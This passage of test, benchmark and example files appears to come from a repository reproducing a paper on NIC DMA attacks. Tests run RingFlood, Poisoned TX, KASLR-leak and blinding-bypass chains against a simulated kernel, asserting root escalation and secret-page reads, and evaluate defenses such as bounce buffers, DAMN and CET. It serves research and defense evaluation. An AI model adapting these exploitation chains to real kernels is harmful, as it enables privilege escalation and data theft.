        surv_device.knowledge.vmemmap_base = \
            surv_victim.addr_space.vmemmap_base
    secret = surv_victim.slab.kmalloc(64)
    surv_victim.cpu_write(secret, b"PERSISTENT-SURVEILLANCE-TARGET")
    pfn = surv_victim.addr_space.pfn_of_kva(secret)
    surv_report = read_arbitrary_pages(surv_victim, surv_nic,
                                       surv_device, [pfn])
    surveillance = PaperComparison(
        "E11b / sec 5.5: surveillance via frags spoofing")
    surveillance.add("arbitrary page read", "any page in the system",
                     "secret bytes recovered" if
                     b"PERSISTENT-SURVEILLANCE-TARGET" in
                     surv_report.pages_read[pfn] else "failed")
    surveillance.add("shared-info changes undone before completion",
                     "required for stability",
                     f"undone={surv_report.undone}, "
                     f"oopses={surv_victim.stack.stats.oopses}")
    assert b"PERSISTENT-SURVEILLANCE-TARGET" in \
        surv_report.pages_read[pfn]
    assert surv_victim.stack.stats.oopses == 0
    record(surveillance)
