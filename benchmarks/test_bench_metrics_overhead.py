"""Perf: the metrics layer must not tax the hot path (E19).

The registry is pull-model: subsystems keep their always-on stats
structs and collectors read them only at snapshot time, so an
installed registry adds no per-event work to the paths RingFlood
hammers (IOTLB translate, RX ring post/poll, skb alloc).  This
benchmark pins that claim: the ringflood-style event rate with a
metrics session installed must stay within 10% of the rate with the
layer off entirely.
"""

import time

from repro import metrics, trace
from repro.sim.kernel import Kernel

ROUNDS = 40
REPEATS = 5
OVERHEAD_BUDGET = 0.10


def _flood_once() -> tuple[float, int]:
    """One timed run of the RX hot loop RingFlood leans on."""
    from repro.sim.workload import run_compile_and_ping

    kernel = Kernel(seed=23, phys_mb=256, boot_jitter_pages=0,
                    boot_jitter_blocks=0)
    nic = kernel.add_nic("eth0")
    started = time.perf_counter()
    run_compile_and_ping(kernel, nic, rounds=ROUNDS)
    elapsed = time.perf_counter() - started
    events = (kernel.stack.stats.rx_delivered
              + kernel.skb_alloc.stats.skb_allocs
              + kernel.iommu.iotlb.stats.hits
              + kernel.iommu.iotlb.stats.misses)
    return elapsed, events


def test_metrics_overhead_within_budget():
    assert trace.active() is None
    assert metrics.active() is None

    # interleave off/on runs so machine-load drift hits both sides
    # equally; best-of-N per side damps the remaining noise
    best_off = best_on = float("inf")
    nr_events = 0
    nr_samples = 0
    for _ in range(REPEATS):
        elapsed, nr_events = _flood_once()
        best_off = min(best_off, elapsed)
        with metrics.session() as registry:
            elapsed, _ = _flood_once()
            # the session actually observed the workload's kernels
            nr_samples = len(registry.samples())
        best_on = min(best_on, elapsed)
    assert metrics.active() is None
    assert nr_samples > 0

    rate_off = nr_events / best_off
    rate_on = nr_events / best_on
    ratio = rate_on / rate_off
    print(f"\nmetrics overhead: off={rate_off:,.0f} events/s "
          f"on={rate_on:,.0f} events/s (on/off={ratio:.3f})")
    assert ratio >= 1 - OVERHEAD_BUDGET, (
        f"metrics layer slowed the hot path by "
        f"{(1 - ratio) * 100:.1f}% (> {OVERHEAD_BUDGET:.0%} budget)")
