"""Perf: differential-campaign throughput with the shared cache (E18).

Times a small campaign at ``jobs=1`` (inline) and ``jobs=4`` (worker
pool warmed from the shared on-disk tier via the pool initializer) and
checks both finish with every seed ok.
"""

import time

from repro import perfcache
from repro.campaign.runner import CampaignConfig, run_campaign

NR_SEEDS = 4
SCALE = 0.1


def run_once(jobs: int, cache_dir: str):
    config = CampaignConfig(nr_seeds=NR_SEEDS, jobs=jobs, scale=SCALE,
                            output=None, trace_events=0,
                            cache_dir=cache_dir)
    try:
        return run_campaign(config)
    finally:
        perfcache.reset_default()


def test_campaign_throughput_inline(benchmark, tmp_path):
    directory = str(tmp_path / "cache")
    summary = benchmark.pedantic(lambda: run_once(1, directory),
                                 rounds=1, iterations=1)
    assert summary.nr_ok == NR_SEEDS
    benchmark.extra_info["seeds_per_s"] = round(
        NR_SEEDS / benchmark.stats.stats.min, 2)


def test_campaign_throughput_jobs4(benchmark, tmp_path):
    directory = str(tmp_path / "cache")
    # pre-warm the shared tier the way a resumed campaign would be
    start = time.perf_counter()
    assert run_once(4, directory).nr_ok == NR_SEEDS
    cold_s = time.perf_counter() - start

    summary = benchmark.pedantic(lambda: run_once(4, directory),
                                 rounds=1, iterations=1)
    assert summary.nr_ok == NR_SEEDS
    benchmark.extra_info["cold_s"] = round(cold_s, 2)
    benchmark.extra_info["seeds_per_s"] = round(
        NR_SEEDS / benchmark.stats.stats.min, 2)
