"""Perf: event rates of the hottest simulator paths (E18).

The two structures the perf pass rewrote: the IOTLB (plain-dict LRU,
O(1) move-to-end) and the page_frag cache (dict-keyed fragments, O(1)
free). Tracing is off, so these also pin the no-op tracepoint cost.
"""

from repro import trace
from repro.iommu.domain import IovaEntry
from repro.iommu.iotlb import Iotlb
from repro.iommu.perms import DmaPerm
from repro.mem.buddy import BuddyAllocator
from repro.mem.page_frag import PageFragCache
from repro.mem.phys import PhysicalMemory
from repro.mem.virt import IdentityTranslator

NR_EVENTS = 50_000


def test_iotlb_event_rate(benchmark):
    assert trace.active() is None
    entries = [IovaEntry(pfn, pfn + 1, DmaPerm.BIDIRECTIONAL)
               for pfn in range(512)]

    def iotlb_round():
        iotlb = Iotlb(capacity=256)
        for i in range(NR_EVENTS):
            entry = entries[i % 512]
            if iotlb.lookup(7, entry.iova_pfn) is None:
                iotlb.insert(7, entry)
        return iotlb

    iotlb = benchmark(iotlb_round)
    assert iotlb.stats.hits + iotlb.stats.misses == NR_EVENTS
    assert iotlb.stats.evictions > 0  # the LRU path was exercised
    benchmark.extra_info["events_per_s"] = round(
        NR_EVENTS / benchmark.stats.stats.min)


def test_page_frag_event_rate(benchmark):
    assert trace.active() is None

    def frag_round():
        phys = PhysicalMemory(16384)
        buddy = BuddyAllocator(phys, reserved_low_pages=16)
        cache = PageFragCache(buddy, IdentityTranslator())
        live = []
        for _ in range(NR_EVENTS):
            live.append(cache.alloc(1856))
            if len(live) >= 8:
                cache.free(live.pop(0))
        return len(live)

    assert benchmark(frag_round) < 8 + 1
    benchmark.extra_info["events_per_s"] = round(
        NR_EVENTS / benchmark.stats.stats.min)
