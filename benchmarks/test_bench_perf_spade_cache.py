"""Perf: SPADE cold vs warm through repro.perfcache (E18).

The acceptance bar for the cache work: a warm re-analysis of the
unmutated Linux-5.0-shaped corpus must be at least 3x faster than the
cold run that populated the cache -- and byte-identical to it.
"""

import json
import time

from repro.core.spade import Spade
from repro.perfcache import PerfCache
from repro.perfcache.codec import encode_findings

MIN_WARM_SPEEDUP = 3.0


def test_spade_warm_disk_speedup(benchmark, corpus, tmp_path):
    """Warm-from-disk (a fresh process's view) vs the cold run."""
    tree, _manifest = corpus
    directory = str(tmp_path / "cache")

    start = time.perf_counter()
    baseline = Spade(tree, cache=PerfCache(directory)).analyze()
    cold_s = time.perf_counter() - start

    # every pedantic round gets a fresh PerfCache over the same
    # directory: an empty in-process tier on top of a warm disk tier
    findings = benchmark.pedantic(
        lambda: Spade(tree, cache=PerfCache(directory)).analyze(),
        rounds=3, iterations=1)
    warm_s = benchmark.stats.stats.min

    assert json.dumps(encode_findings(findings)) == \
        json.dumps(encode_findings(baseline))
    speedup = cold_s / warm_s
    benchmark.extra_info["cold_s"] = round(cold_s, 3)
    benchmark.extra_info["speedup"] = round(speedup, 1)
    assert speedup >= MIN_WARM_SPEEDUP, \
        f"warm SPADE only {speedup:.1f}x faster than cold " \
        f"({warm_s:.3f}s vs {cold_s:.3f}s)"


def test_spade_warm_memory_speedup(benchmark, corpus):
    """Warm-in-process: the second analyze() in one process."""
    tree, _manifest = corpus
    cache = PerfCache()

    start = time.perf_counter()
    baseline = Spade(tree, cache=cache).analyze()
    cold_s = time.perf_counter() - start

    findings = benchmark.pedantic(
        lambda: Spade(tree, cache=cache).analyze(),
        rounds=3, iterations=1)
    warm_s = benchmark.stats.stats.min

    assert json.dumps(encode_findings(findings)) == \
        json.dumps(encode_findings(baseline))
    speedup = cold_s / warm_s
    benchmark.extra_info["cold_s"] = round(cold_s, 3)
    benchmark.extra_info["speedup"] = round(speedup, 1)
    assert speedup >= MIN_WARM_SPEEDUP
