"""E13 (section 2.4): subverting KASLR from leaked pointers."""

from repro.core.attacks.kaslr_leak import break_kaslr_via_tx
from repro.core.attacks.ringflood import make_attacker
from repro.report.tables import PaperComparison
from repro.sim.kernel import Kernel


def test_sec24_kaslr_subversion(benchmark, record):
    def break_many():
        exact = {"text": 0, "pob": 0, "vmemmap_ready": 0}
        boots = 8
        for boot in range(boots):
            victim = Kernel(seed=61, boot_index=boot, phys_mb=256)
            nic = victim.add_nic("eth0")
            device = make_attacker(victim, "eth0")
            if not break_kaslr_via_tx(victim, nic, device):
                continue
            if device.knowledge.text_base == \
                    victim.addr_space.text_base:
                exact["text"] += 1
            if device.knowledge.page_offset_base == \
                    victim.addr_space.page_offset_base:
                exact["pob"] += 1
        return exact, boots

    exact, boots = benchmark.pedantic(break_many, rounds=1, iterations=1)
    comparison = PaperComparison(
        "E13 / sec 2.4: KASLR subversion via leaked pointers")
    comparison.add("text-base recovery via init_net",
                   "single leaked pointer suffices "
                   "(low 21 bits invariant)",
                   f"{exact['text']}/{boots} boots exact")
    comparison.add("page_offset_base via 30-bit arithmetic",
                   "lower 30 bits leak PFN + offset",
                   f"{exact['pob']}/{boots} boots exact")
    assert exact["text"] == boots
    assert exact["pob"] == boots
    comparison.add("leak channel", "scan pages mapped for reading "
                   "during I/O", "TX linear pages (kmalloc-1024 slab: "
                   "sockets + freelists)")
    record(comparison)
