"""E9 (section 5.3): RingFlood -- boot determinism and the attack.

The reboot study: how often do RX-ring physical pages repeat across
boots, for the kernel-5.0 configuration (2 KiB entries) vs the 4.15
configuration (64 KiB HW-LRO buffers)? The paper: "many PFNs repeat in
more than 50% of reboots on kernel 5.0 and more than 95% on kernel
4.15", and the footprint difference (64 MB vs 2 GB per port) explains
it. Then the attack itself runs end to end.
"""

from repro.core.attacks.ringflood import (make_attacker,
                                          profile_replica_boots,
                                          run_ringflood)
from repro.mem.phys import PAGE_SIZE
from repro.net.nic import LRO_RX_BUF_SIZE
from repro.net.structs import skb_truesize
from repro.report.tables import PaperComparison
from repro.sim.kernel import Kernel

NR_BOOTS = 40  # the paper used 256 physical reboots; scaled for runtime

CONFIGS = {
    "5.0 (2KB entries)": {"rx_ring_size": 96, "tx_ring_size": 32},
    "4.15 (64KB HW LRO)": {"hw_lro": True, "rx_ring_size": 64,
                           "tx_ring_size": 32},
}


def rx_page_sets(nic_config: dict, nr_boots: int) -> list[set]:
    """Per-boot sets of physical pages backing the RX ring."""
    sets = []
    for boot in range(nr_boots):
        kernel = Kernel(seed=5, boot_index=boot, phys_mb=512,
                        nr_cpus=1)
        nic = kernel.add_nic("eth0", **nic_config)
        pages = set()
        for desc in nic.rx_rings[0].posted_descriptors():
            paddr = kernel.addr_space.paddr_of_kva(desc.kva)
            truesize = skb_truesize(desc.buf_size)
            pages.update(range(paddr // PAGE_SIZE,
                               (paddr + truesize - 1) // PAGE_SIZE + 1))
        sets.append(pages)
    return sets


def mean_repeat_rate(page_sets: list[set]) -> float:
    """P(page profiled on one boot is an RX page on another boot)."""
    total = 0.0
    pairs = 0
    for i, reference in enumerate(page_sets):
        for other in page_sets[i + 1:]:
            total += len(reference & other) / max(len(reference), 1)
            pairs += 1
    return total / max(pairs, 1)


def test_sec53_ringflood(benchmark, record):
    comparison = PaperComparison(
        "E9 / sec 5.3: RingFlood boot determinism + attack")

    rates = {}
    footprints = {}
    for name, config in CONFIGS.items():
        sets = rx_page_sets(config, NR_BOOTS)
        rates[name] = mean_repeat_rate(sets)
        footprints[name] = len(sets[0]) * PAGE_SIZE

    comparison.add("reboots profiled", 256, NR_BOOTS)
    comparison.add("PFN repeat rate, 5.0 config", "> 50%",
                   f"{rates['5.0 (2KB entries)']:.0%}")
    comparison.add("PFN repeat rate, 4.15 LRO config", "> 95%",
                   f"{rates['4.15 (64KB HW LRO)']:.0%}")
    assert rates["5.0 (2KB entries)"] > 0.50
    assert rates["4.15 (64KB HW LRO)"] > 0.95
    assert rates["4.15 (64KB HW LRO)"] > rates["5.0 (2KB entries)"]

    # The footprint arithmetic behind the effect, at the paper's scale
    # (32 cores, 1024-entry rings per the cited driver defaults).
    lro_full = 32 * 1024 * (64 << 10)
    v50_full = 32 * 1024 * (2 << 10)
    comparison.add("4.15 footprint/port (32 cores, 1024 descs)",
                   "2 GB", f"{lro_full >> 30} GB")
    comparison.add("5.0 footprint/port", "64 MB", f"{v50_full >> 20} MB")
    comparison.add("per-ring footprint measured here",
                   "(scaled-down rings)",
                   " / ".join(f"{name}: {fp >> 10} KB"
                              for name, fp in footprints.items()))

    # The attack itself: profile a replica, strike several victims.
    profile = profile_replica_boots(24, seed=5, nr_slots=48)

    def strike():
        wins = 0
        attempts = 6
        for boot in range(900, 900 + attempts):
            victim = Kernel(seed=5, boot_index=boot)
            nic = victim.add_nic("eth0")
            device = make_attacker(victim, "eth0")
            report = run_ringflood(victim, nic, device, profile,
                                   nr_slots=12)
            wins += report.escalated
        return wins, attempts

    wins, attempts = benchmark.pedantic(strike, rounds=1, iterations=1)
    comparison.add("end-to-end escalations",
                   "demonstrated (section 6)",
                   f"{wins}/{attempts} victim boots rooted")
    assert wins >= 1
    comparison.note("success rate tracks the PFN repeat probability, "
                    "as the paper's footprint argument predicts")
    record(comparison)
