"""E12 (section 6): the end-to-end attack demonstration.

"We executed the RingFlood attack on the skb_shared_info structure to
inject and run malicious code in the kernel. Our exploit places a ROP
gadget on the DMA buffer page. To execute this ROP gadget, the device
points the struct's callback pointer to a JOP gadget in the kernel.
The kernel then passes the callback in the %rdi register to its
containing struct ... we needed a JOP gadget that performs
%rsp = %rdi + const. We located such a gadget using the ROPgadget
tool."
"""

from repro.cpu.gadgets import GadgetScanner
from repro.core.attacks.ringflood import (make_attacker,
                                          profile_replica_boots,
                                          run_ringflood)
from repro.report.tables import PaperComparison
from repro.sim.kernel import Kernel


def test_sec6_demo(benchmark, record):
    kernel = Kernel(seed=5, boot_index=0, phys_mb=512)

    def scan_for_pivot():
        scanner = GadgetScanner(kernel.image.text)
        return scanner.find_stack_pivot(), len(scanner.scan())

    pivot, nr_gadgets = benchmark.pedantic(scan_for_pivot, rounds=1,
                                           iterations=1)
    comparison = PaperComparison("E12 / sec 6: attack demonstration")
    comparison.add("gadget discovery tool", "ROPgadget over vmlinux",
                   f"byte scanner over synthetic text "
                   f"({nr_gadgets} gadgets)")
    comparison.add("required JOP gadget", "%rsp = %rdi + const",
                   f"'{pivot.text}' at image offset "
                   f"{pivot.image_offset:#x}")
    assert pivot.instructions[0].mnemonic == "lea rsp, [rdi+IMM]"

    # the full demonstration: profile + flood + detonate
    profile = profile_replica_boots(24, seed=5, nr_slots=48)
    wins = 0
    used_paths = set()
    for boot in range(700, 712):
        victim = Kernel(seed=5, boot_index=boot)
        nic = victim.add_nic("eth0")
        device = make_attacker(victim, "eth0")
        report = run_ringflood(victim, nic, device, profile, nr_slots=12)
        used_paths |= report.paths_used
        if report.escalated:
            wins += 1
            assert victim.executor.creds.is_root
            assert "prepare_kernel_cred" in victim.executor.call_log
            assert "commit_creds" in victim.executor.call_log
    comparison.add("callback arrives with &struct in %rdi",
                   "yes (kernel calling convention)", "yes")
    comparison.add("poisoned ROP stack placed in DMA buffer page",
                   "yes", "yes")
    comparison.add("victims rooted", "demonstrated",
                   f"{wins}/12 boots (paths {sorted(used_paths)})")
    assert wins >= 1
    record(comparison)
