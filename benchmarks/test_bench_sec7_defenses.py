"""E14 (sections 7-9): the attack-vs-defense matrix + blinding bypass."""

from repro.core.attacks.blinding_bypass import run_blinding_bypass
from repro.core.attacks.ringflood import make_attacker
from repro.core.defenses.policy import (STANDARD_CONFIGS, evaluate_matrix,
                                        matrix_rows)
from repro.report.tables import PaperComparison
from repro.sim.kernel import Kernel

#: the paper's qualitative expectations, per defense config
PAPER_EXPECTATION = {
    "baseline-deferred": "all compound attacks succeed",
    "buggy-driver-order": "all succeed (path (i) adds a window)",
    "strict": "still exploitable via type (c) (sec 5.2.2)",
    "bounce": "sub-page vulnerability eliminated (ASPLOS'16)",
    "damn": "blocks echo leaks; no solution for forwarding (sec 9.2)",
    "blinding": "sufficient against single-step only (sec 7)",
    "randomize-layout": "__randomize_layout hides field offsets "
                        "(footnote 2)",
    "cet-ibt": "JOP prevented (sec 8)",
    "cet-shadow": "ROP prevented (sec 8)",
}


def test_sec7_defense_matrix(benchmark, record):
    cells = benchmark.pedantic(lambda: evaluate_matrix(seed=1),
                               rounds=1, iterations=1)
    comparison = PaperComparison("E14 / secs 7-9: defense matrix")
    by_config: dict[str, list] = {}
    for cell in cells:
        by_config.setdefault(cell.config, []).append(cell)
    for config, config_cells in by_config.items():
        pwned = sorted(c.attack for c in config_cells if c.escalated)
        comparison.add(config, PAPER_EXPECTATION[config],
                       f"pwned by: {', '.join(pwned) if pwned else '-'}")

    outcome = {(c.config, c.attack): c.escalated for c in cells}
    # undefended and buggy-order: everything lands
    for config in ("baseline-deferred", "buggy-driver-order"):
        assert all(outcome[(config, a)] for a in
                   ("ringflood", "poisoned-tx", "forward-thinking"))
    # strict alone is insufficient
    assert any(outcome[("strict", a)] for a in
               ("ringflood", "poisoned-tx", "forward-thinking"))
    # bounce blocks everything
    assert not any(outcome[("bounce", a)] for a in
                   ("ringflood", "poisoned-tx", "forward-thinking"))
    # DAMN falls only to the forwarding attack
    assert outcome[("damn", "forward-thinking")]
    assert not outcome[("damn", "ringflood")]
    assert not outcome[("damn", "poisoned-tx")]
    # CET and layout randomization block the injection step
    for config in ("cet-ibt", "cet-shadow", "randomize-layout"):
        assert not any(outcome[(config, a)] for a in
                       ("ringflood", "poisoned-tx", "forward-thinking"))

    # the blinding bypass: compound beats the cookie (macOS scenario)
    victim = Kernel(seed=1, boot_index=9, phys_mb=512, forwarding=True,
                    pointer_blinding=True, zerocopy_threshold=512)
    nic = victim.add_nic("eth0")
    device = make_attacker(victim, "eth0")
    bypass = run_blinding_bypass(victim, nic, device)
    comparison.add("blinding vs compound attacker",
                   "cookie revealed by a single XOR once KASLR falls",
                   f"cookie recovered exactly: "
                   f"{bypass.cookie_recovered == victim.stack.pointer_blinding.cookie_for_test()}, "
                   f"escalated={bypass.escalated}")
    assert bypass.escalated
    record(comparison)
    for row in matrix_rows(cells):
        print(row)
