"""E15 (section 7): applicability to Windows, macOS, and FreeBSD."""

from repro.core.attacks.other_os import (run_freebsd_scenario,
                                         run_macos_scenario,
                                         run_windows_scenario)
from repro.core.attacks.ringflood import make_attacker
from repro.report.tables import PaperComparison
from repro.sim.kernel import Kernel


def test_sec7_os_comparison(benchmark, record):
    def run_all():
        results = {}
        for runner in (run_windows_scenario, run_macos_scenario,
                       run_freebsd_scenario):
            kernel = Kernel(seed=81, phys_mb=256)
            device = make_attacker(kernel, "nic0")
            results[runner.__name__] = runner(kernel, device)
        return results

    results = benchmark.pedantic(run_all, rounds=1, iterations=1)
    windows = results["run_windows_scenario"]
    macos = results["run_macos_scenario"]
    freebsd = results["run_freebsd_scenario"]

    comparison = PaperComparison(
        "E15 / sec 7: applicability to other OSs")
    comparison.add(
        "Windows: NdisAllocateNetBufferMdlAndData",
        "NET_BUFFER + data in one buffer -> single-step",
        f"single-step escalated={windows.single_step_escalated}")
    comparison.add(
        "macOS: blinded mbuf ext_free vs single-step",
        "sufficient to defend against single-step",
        f"blocked ({macos.single_step_blocked_reason})")
    comparison.add(
        "macOS: blinded ext_free vs compound",
        "cookie revealed by a single XOR once KASLR falls",
        f"compound escalated={macos.compound_escalated}")
    comparison.add(
        "FreeBSD: raw mbuf ext_free",
        "attack demonstrated by Markettos et al.; still present",
        f"single-step escalated={freebsd.single_step_escalated}")
    assert windows.single_step_escalated
    assert not macos.single_step_escalated
    assert macos.compound_escalated
    assert freebsd.single_step_escalated
    record(comparison)
