"""Perf: warm served analyze vs cold one-shot analysis (E21).

The acceptance bar for the serving layer: once the daemon's corpus
LRU and analysis coalescing are warm, an ``analyze`` request answered
over the socket must be at least 5x faster than a fully cold one-shot
run of the same analysis (corpus generation included) -- and
byte-identical to it.
"""

from __future__ import annotations

import time

from repro.serve import (AnalysisServer, LoadgenConfig, ServeClient,
                        ServeConfig, measure_cold_oneshot)

SCALE = 0.25
MIN_WARM_SPEEDUP = 5.0


def test_served_analyze_warm_speedup(benchmark):
    config = ServeConfig(host="127.0.0.1", port=0, workers=2,
                         queue_bound=16, install_metrics=False)
    server = AnalysisServer(config)
    address = server.start()
    try:
        with ServeClient(host=address[0], port=address[1]) as client:
            request = {"type": "analyze", "scale": SCALE,
                       "include_findings": False}
            baseline = client.request(request)   # warm the caches

            def served_analyze():
                return client.request(request)

            response = benchmark.pedantic(served_analyze, rounds=5,
                                          iterations=1)
            warm_s = benchmark.stats.stats.min
        assert response == baseline   # warm never alters the answer
    finally:
        server.stop()

    cold_s = measure_cold_oneshot(LoadgenConfig(scale=SCALE))
    speedup = cold_s / warm_s
    benchmark.extra_info["cold_oneshot_s"] = round(cold_s, 3)
    benchmark.extra_info["speedup"] = round(speedup, 1)
    assert speedup >= MIN_WARM_SPEEDUP, \
        f"warm served analyze only {speedup:.1f}x faster than cold " \
        f"one-shot (need >= {MIN_WARM_SPEEDUP}x)"


def test_served_ping_roundtrip_latency(benchmark):
    """Protocol + queue floor: a ping round trip stays sub-10ms."""
    config = ServeConfig(host="127.0.0.1", port=0, workers=2,
                         queue_bound=16, install_metrics=False)
    server = AnalysisServer(config)
    address = server.start()
    try:
        with ServeClient(host=address[0], port=address[1]) as client:
            client.ping()   # connection + first-dispatch warmup
            benchmark.pedantic(client.ping, rounds=20, iterations=1)
            floor_s = benchmark.stats.stats.min
    finally:
        server.stop()
    benchmark.extra_info["floor_ms"] = round(floor_s * 1000, 3)
    assert floor_s < 0.010, \
        f"ping round trip {floor_s * 1000:.1f}ms (expected < 10ms)"
