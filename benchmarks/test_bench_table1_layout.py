"""E1 (Table 1): the x86-64 kernel virtual memory layout."""

from repro.kaslr.layout import LAYOUT_REGIONS, region_of
from repro.report.tables import PaperComparison

_TB = 1 << 40
_GB = 1 << 30
_MB = 1 << 20

PAPER_ROWS = {
    "direct_map": ("ffff888000000000", "64 TB"),
    "vmalloc": ("ffffc90000000000", "32 TB"),
    "vmemmap": ("ffffea0000000000", "1 TB"),
    "kasan_shadow": ("ffffec0000000000", "16 TB"),
    "kernel_text": ("ffffffff80000000", "512 MB"),
    "modules": ("ffffffffa0000000", "1520 MB"),
}


def _size_text(size: int) -> str:
    if size >= _TB:
        return f"{size // _TB} TB"
    if size >= _GB and size % _GB == 0:
        return f"{size // _GB} GB"
    return f"{size // _MB} MB"


def test_table1_layout(benchmark, record):
    def classify_sweep():
        # the operation the layout table serves: classifying pointers
        hits = 0
        for reg in LAYOUT_REGIONS:
            for offset in range(0, reg.size, reg.size // 64):
                if region_of(reg.start + offset) is reg:
                    hits += 1
        return hits

    hits = benchmark(classify_sweep)
    assert hits == 6 * 64

    comparison = PaperComparison("E1 / Table 1: kernel VM layout")
    for reg in LAYOUT_REGIONS:
        paper_start, paper_size = PAPER_ROWS[reg.name]
        comparison.add(
            f"{reg.name} start", paper_start, f"{reg.start:016x}")
        comparison.add(
            f"{reg.name} size", paper_size, _size_text(reg.size))
        assert f"{reg.start:016x}" == paper_start
        assert _size_text(reg.size) == paper_size
    record(comparison)
