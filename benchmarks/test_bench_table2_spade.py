"""E2 (Table 2): SPADE results summary over the Linux-5.0-shaped corpus."""

from repro.core.spade import Spade, Table2Stats
from repro.core.spade.report import format_table2
from repro.report.tables import PaperComparison

#: Table 2 of the paper: row -> (#API calls, #files)
PAPER_TABLE2 = {
    "1. Callbacks exposed": (156, 57),
    "2. skb_shared_info mapped": (464, 232),
    "3. Callbacks exposed directly": (54, 28),
    "4. Private data mapped": (19, 7),
    "5. Stack mapped": (3, 3),
    "6. Type C vulnerability": (344, 227),
    "7. build_skb used": (46, 40),
    "Total dma-map calls": (1019, 447),
}


def test_table2_spade(benchmark, corpus, record):
    tree, manifest = corpus

    def run_spade():
        spade = Spade(tree)
        return spade, spade.analyze()

    spade, findings = benchmark.pedantic(run_spade, rounds=1,
                                         iterations=1)
    stats = Table2Stats.from_findings(findings)

    comparison = PaperComparison("E2 / Table 2: SPADE results summary")
    for label, calls, files in stats.rows():
        paper_calls, paper_files = PAPER_TABLE2[label]
        comparison.add(f"{label} (calls)", paper_calls, calls)
        comparison.add(f"{label} (files)", paper_files, files)
        assert (calls, files) == (paper_calls, paper_files)
    comparison.add("vulnerable calls", "742 (72.8%)",
                   f"{stats.vulnerable[0]} "
                   f"({100 * stats.vulnerable[0] / stats.total[0]:.1f}%)")
    assert stats.vulnerable[0] == 742

    validation = spade.validate(findings, manifest)
    comparison.add("precision vs ground truth", "n/a (manual expert "
                   "validation)", f"{validation.precision:.3f}")
    comparison.add("recall vs ground truth", "n/a",
                   f"{validation.recall:.3f}")
    comparison.note("corpus generated with the Linux-5.0 structural "
                    "composition; SPADE analysis is genuine recursive "
                    "backtracking over parsed C")
    record(comparison)
    print(format_table2(stats))
