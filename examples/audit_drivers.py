#!/usr/bin/env python3
"""Audit a driver tree with SPADE (the paper's section 4.1 workflow).

Generates the Linux-5.0-shaped corpus, runs the static analyzer over
all 447 files / 1019 dma-map call sites, prints the Table 2 summary,
the Figure 2 trace for the nvme_fc driver, and the measured
precision/recall against the generator's ground truth.

Optionally materializes the corpus on disk so you can poke at the C:

    python examples/audit_drivers.py [--dump-tree DIR]
"""

import argparse
import time

from repro.core.spade import Spade, Table2Stats
from repro.core.spade.report import format_finding_trace, format_table2
from repro.corpus import CorpusGenerator


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("--dump-tree", metavar="DIR", default=None,
                        help="write the generated C tree to DIR")
    parser.add_argument("--seed", type=int, default=2021)
    args = parser.parse_args()

    print("generating the Linux-5.0-shaped corpus...")
    tree, manifest = CorpusGenerator(seed=args.seed).generate()
    print(f"  {len(tree.paths(suffix='.c'))} driver files, "
          f"{tree.total_lines} lines of C, "
          f"{manifest.nr_calls} dma_map_single call sites")
    if args.dump_tree:
        tree.write_to_dir(args.dump_tree)
        print(f"  tree written to {args.dump_tree}")

    print("\nrunning SPADE (parse -> index -> backtrack)...")
    start = time.time()
    spade = Spade(tree)
    findings = spade.analyze()
    print(f"  analyzed {len(findings)} call sites in "
          f"{time.time() - start:.1f}s")

    print("\n--- Table 2 ---")
    print(format_table2(Table2Stats.from_findings(findings)))

    print("\n--- Figure 2: the nvme_fc trace ---")
    for finding in findings:
        if finding.file == "drivers/nvme/host/fc.c":
            print(format_finding_trace(finding))
            print()

    validation = spade.validate(findings, manifest)
    print(f"--- validation against ground truth ---")
    print(f"precision {validation.precision:.3f}, "
          f"recall {validation.recall:.3f} over "
          f"{validation.true_positives} labeled exposures")


if __name__ == "__main__":
    main()
