#!/usr/bin/env python3
"""A tiny differential fuzzing campaign, end to end in a few seconds.

Derives a handful of mutated driver corpora from the Table-2 base
(scaled down ~12x so the whole run stays under five seconds), runs
SPADE over each tree and D-KASAN over a manifest-replay kernel run,
and prints the aggregate precision/recall scoreboard plus every
static-vs-dynamic disagreement the campaign surfaced. One of the
mutation kinds -- opaque-map-expr, which hides the mapped pointer
behind cast+offset arithmetic -- reproduces the paper's section 4.3
observation that "complex constructs" defeat static analysis, so the
disagreement table is rarely empty.

Run:  python examples/campaign_smoke.py
"""

from repro.campaign import (CampaignConfig, format_summary,
                            run_campaign, shrink_seed)
from repro.campaign.mutate import CorpusMutator, Mutation
from repro.campaign.oracle import run_differential


def main() -> None:
    config = CampaignConfig(nr_seeds=6, jobs=1, mutations_per_seed=3,
                            scale=0.08, output=None)
    print(f"running a {config.nr_seeds}-seed differential campaign "
          f"(scale={config.scale}, {config.mutations_per_seed} "
          "mutations per seed)...\n")
    summary = run_campaign(
        config,
        progress=lambda r: print(
            f"  seed {r['seed']}: {r['status']}, "
            f"{r.get('nr_sites', '?')} sites, "
            f"{len(r.get('disagreements', ()))} disagreement(s)"))

    print()
    print(format_summary(summary))

    # shrink one injected SPADE false negative down to its single cause
    mutator = CorpusMutator(config.base_seed, scale=config.scale)
    path = mutator._eligible_paths(mutator.base()[1])["opaque-map-expr"][0]
    mutations = mutator.plan(99, 3) + [
        Mutation("opaque-map-expr", path, detail="16")]
    mutated = mutator.apply(mutations)
    result = run_differential(mutated.tree, mutated.manifest, seed=99)
    target = next(d for d in result.disagreements
                  if d.verdict == "spade-miss")
    shrunk = shrink_seed(mutator, 99, mutations, target)
    print(f"\nshrinker: {len(mutations)} mutations -> "
          f"{len(shrunk.mutations)} in {shrunk.evaluations} "
          "evaluations; minimal reproducer:")
    for mutation in shrunk.mutations:
        print(f"  {mutation.kind} @ {mutation.path} "
              f"(detail={mutation.detail or '-'})")

    print("\nInterpretation: every spade-miss row is a call site the "
          "static analyzer lost to pointer arithmetic but the runtime "
          "sanitizer still flagged -- the differential oracle turns "
          "that gap into a scored, shrinkable artifact.")


if __name__ == "__main__":
    main()
