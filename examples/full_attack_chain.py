#!/usr/bin/env python3
"""Run every compound attack against a configurable victim.

The section-5 tour: RingFlood, Poisoned TX, Forward Thinking (with
the surveillance primitive), and the blinding bypass -- each printing
its stage log and which of the three vulnerability attributes each
stage acquired. Then the defense sweep: re-run everything under
strict / bounce / DAMN / CET and watch where each attack dies.

Run:  python examples/full_attack_chain.py [--quick]
"""

import argparse

from repro.core.attacks.blinding_bypass import run_blinding_bypass
from repro.core.attacks.forward import run_forward_thinking
from repro.core.attacks.poisoned_tx import run_poisoned_tx
from repro.core.attacks.ringflood import (make_attacker,
                                          profile_replica_boots,
                                          run_ringflood)
from repro.core.defenses.policy import (STANDARD_CONFIGS,
                                        evaluate_matrix, matrix_rows)
from repro.sim.kernel import Kernel


